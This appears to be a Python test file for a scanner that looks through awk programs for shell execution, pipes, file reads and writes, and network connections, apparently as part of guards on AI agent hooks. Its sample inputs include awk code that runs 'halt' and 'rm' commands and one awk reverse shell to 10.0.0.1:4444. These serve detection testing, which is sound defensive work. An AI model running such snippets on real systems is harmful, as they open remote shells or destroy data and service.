"""awk programs are walked through for their `system`, pipes and files."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_hooks_guards.code import STDIN, Found
from agent_hooks_guards.code.awk import scan
from agent_hooks_guards.model.values import NETWORK, UNKNOWN, Data

NONE: frozenset[str] = frozenset()
INPUT = frozenset((STDIN,))


def found(code: str, *arguments: str) -> Found:
    return scan(code, NONE, list(arguments), "awk")


def nothing(what: Found) -> bool:
    return not (what.shells or what.programs or what.effects or what.codes or what.doubts)


@pytest.mark.parametrize(
    "code",
    [
        'BEGIN { system("halt") }',
        'BEGIN{c="ha"; d=c "lt"; system(d)}',
        'BEGIN { "halt" | getline x; print x }',
        'BEGIN { "halt" | getline }',
        'BEGIN { cmd = "halt"; while ((cmd | getline line) > 0) print line }',
        '{ print "halt" | "sh" }',
        'BEGIN { printf "halt" | "/bin/sh" }',
        'BEGIN { print $1 | "halt" }',
        'BEGIN { c = "hxlt"; sub(/x/, "a", c); system(c) }',
        '/x/ { if (NR > 1) { system("halt") } }',
        'END { for (i = 0; i < 3; i++) system("halt") }',
        'BEGIN { system("ha\\154t") }',
        '# it"s\nBEGIN { system("halt") }',
        'BEGIN { x = 1 / 2; y = "a/b"; system("halt") }',
        'BEGIN { print "a" > "f"; system("halt") }',
        'BEGIN { print "a" > "f"\nprint\nsystem("halt") }',
    ],
)
def test_what_awk_gives_to_a_shell_is_told(code):
    assert "halt" in [data.text.strip() for data in found(code).shells]


def test_a_line_of_the_input_that_is_run_is_told_as_such():
    assert found("{ system($0) }").shells == [Data(UNKNOWN, INPUT)]
    assert found('{ system("rm " $1) }').shells == [Data("rm " + UNKNOWN, INPUT)]


def test_variables_that_are_set_for_it_are_known():
    assert found("BEGIN { system(c) }", "c=halt").shells == [Data("halt")]


@pytest.mark.parametrize(
    ("code", "effect"),
    [
        ('{ print > "/x" }', ("write", "/x", False, INPUT, "")),
        ('{ print "a" >> "/x" }', ("write", "/x", False, NONE, "append")),
        ('BEGIN { while ((getline line < "/x") > 0) n++ }', ("read", "/x", False, NONE, "")),
        ('BEGIN { printf("%s", "a") > "/x" }', ("write", "/x", False, NONE, "")),
    ],
)
def test_its_files_are_told(code, effect):
    assert found(code).effects == [effect]


def test_a_shell_for_somebody_elsewhere_is_told():
    what = found(
        'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while (1) { s |& getline c; '
        "while ((c |& getline l) > 0) print l |& s } }"
    )
    assert [each.text for each in what.shells] == [UNKNOWN]
    assert NETWORK in what.shells[0].labels
    assert ("receive", "10.0.0.1:4444", False, NONE, "") in what.effects


@pytest.mark.parametrize(
    "code",
    [
        "{ print $1 }",
        '{ print "rm -rf /" }',
        "$1 > 10",
        '/rm -rf/ { print "found" }',
        "$3 ~ /x/ && $2 == 1 { c++ } END { print c }",
        "{ s += $1 } END { print s / NR }",
        'BEGIN { FS = ":" } { print $1, $NF }',
        'BEGIN { print "system(\\"halt\\")" }',
        "!seen[$0]++",
        "NR % 2 == 0",
        '{ gsub(/rm/, "x"); print }',
        '# system("halt")\n{ print }',
        '{ printf "%-10s %s\\n", $1, $2 }',
        '{ print > "/dev/stderr" }',
    ],
)
def test_what_only_reads_and_prints_finds_nothing(code):
    assert nothing(found(code))


def test_work_is_bounded():
    assert scan("{" * 6000 + "system(x)", NONE, [], "awk").doubts
    assert isinstance(scan("function f() { f() } BEGIN { f() }", NONE, [], "awk"), Found)


@given(st.text(max_size=80))
def test_no_text_raises(text):
    assert isinstance(found(text), Found)


@given(
    st.lists(
        st.sampled_from(
            [
                "{",
                "}",
                "(",
                ")",
                '"a"',
                "print ",
                ">",
                "|",
                "getline ",
                "<",
                "$",
                "1",
                "x",
                "=",
                "/",
                "system(",
                "[",
                "]",
                ",",
                ";",
                "\n",
                "BEGIN ",
                "function f(",
                UNKNOWN,
            ]
        ),
        max_size=25,
    )
)
def test_no_pieces_of_code_raise(pieces):
    assert isinstance(found("".join(pieces)), Found)


@given(st.text(alphabet=st.characters(codec="ascii", exclude_characters="\r\n"), max_size=60))
def test_any_text_that_is_only_printed_finds_nothing(text):
    quoted = text.replace("\\", "\\\\").replace('"', '\\"')
    assert nothing(found('BEGIN { print "' + quoted + '" }'))


@pytest.mark.parametrize(
    "program",
    [
        '{ sub(/x/, "r", $1); system($0) }',
        "{ NF = 2; system($0) }",
        "{ NF--; system($0) }",
        '{ $9 = "x"; system($0) }',
        "{ $1++; system($0) }",
    ],
)
def test_what_is_made_of_a_line_in_a_way_that_is_not_computed_is_not_known(program):
    assert [each.text for each in scan(program, NONE, [], "awk", "xm -r a\n").shells] == [UNKNOWN]


def test_the_line_of_input_is_run_with_its_replacements():
    for program, shell in (("{ system($0) }", "xm -r a"), ('{ gsub(/[xy]/, "r"); system($0) }', "rm -r a")):
        assert [each.text for each in scan(program, NONE, [], "awk", "xm -r a\n").shells] == [shell]


@pytest.mark.parametrize(
    "program",
    [
        'BEGIN { system(sprintf("%c%c%s", 104, 97, "lt")) }',
        'BEGIN { system(tolower("HALT")) }',
        'BEGIN { split("ha lt", a, " "); system(a[1] a[2]) }',
        "BEGIN { system(ARGV[1]) }",
        '{ $1 = "rm"; system($0) }',
    ],
)
def test_a_computed_command_line_is_unknown(program):
    assert UNKNOWN in scan(program, NONE, [], "awk", "xm -r a\n").shells[0].text
